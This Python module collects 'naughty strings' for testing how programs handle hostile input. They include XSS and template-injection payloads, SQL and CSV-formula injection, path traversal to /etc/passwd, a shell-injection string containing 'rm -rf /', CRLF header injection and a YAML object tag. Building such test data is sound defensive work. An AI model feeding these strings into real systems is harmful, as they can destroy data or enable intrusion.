"""Texts that break programs, one or two of every class; written for this project."""

from __future__ import annotations

from typing import Final

BREAKING_OUT: Final = {
    "script": "</script><script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "image": "<img src=x onerror=alert(1)>",
    "comment": "<!-- <script> --!> <svg/onload=alert(1)>",
    "entity": "&lt;b&gt; &amp;amp; &#x3c;script&#62;",
    "template": "{{ 7|add:42 }} {% debug %} ${7*7} <%= 7*7 %> #{7*7}",
    "format": "%s%n%d %(name)s {0} {name!r} {:>99999999}",
    "cdata": "]]> <![CDATA[ <x/> ]]>",
    "address": "javascript:alert(1) data:text/html,<b>x</b>",
    "closing": "</textarea></title></style></p>",
}
"""What ends an element, an attribute, a template or a statement that it is put into."""

LETTERS: Final = {
    "right to left": "\u202eedocevil\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "unseen": "zero\u200bwidth\u200c\u200d\ufeff\u00ad\u2060 inside",
    "families": "\U0001f469\U0001f3fd\u200d\U0001f52c \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1f0",
    "marks": "Z" + "\u0300\u0323\u0335" * 60 + "a",
    "apart": "A\u030arhus and fj\u006f\u0308rd",
    "wide": "\uff21\uff22\uff23 \u2460 \u33a1 \ufb01",
    "dotless": "\u0130stanbul \u0131 \u1e9e \u00df \u01c5",
    "separators": "one\u2028two\u2029three\u0085four\x0bfive",
    "astral": "\U00020000\U0001d54f\U0010fffd",
    "not characters": "\ufffe\uffff\ufdd0",
    "control": "\x01\x1b[31mred\x1b[0m\x7f\x9b",
}
"""What is not written as it is read."""

VALUES: Final = {
    "statement": "Robert'); DROP TABLE needs_need; -- \" OR 1=1 /*",
    "pattern": "100%_\\ [a-z]* (((a+)+)+$ ?",
    "command": "=cmd|' /C calc'!A0",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"click")',
    "plus": "+1+1 @SUM(1) -2+3",
    "huge": "9" * 400 + " 1e999 -0 NaN Infinity 0x1F",
    "reserved": "null None undefined true nil CON NUL constructor __proto__",
    "path": "../../../../etc/passwd %2e%2e%2f ~root \\\\server\\share",
    "shell": "$(touch /tmp/x) `id` ; rm -rf / && echo",
    "json": '{"$where": "1"}, "\\ud800", \\u0022',
    "lines": "one\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "query": "AND OR NOT *:* title:x^9 ~2 [a TO z] {!func}",
    "header": "---\n!!python/object: x\n&a [*a]",
}
"""What some program takes for an order, a number or a name of its own."""

NAUGHTY: Final = {**BREAKING_OUT, **LETTERS, **VALUES}

UNSTORABLE: Final = {"nothing": "a\x00b", "half a pair": "a\ud800b", "halves turned": "\udc00\ud800"}
"""What no database can hold, and no form can send."""


def all_in_one(field: str) -> str:
    """Every naughty text, one after the other, under the name of the field that it stands in."""
    return f"{field}: " + " | ".join(NAUGHTY.values())
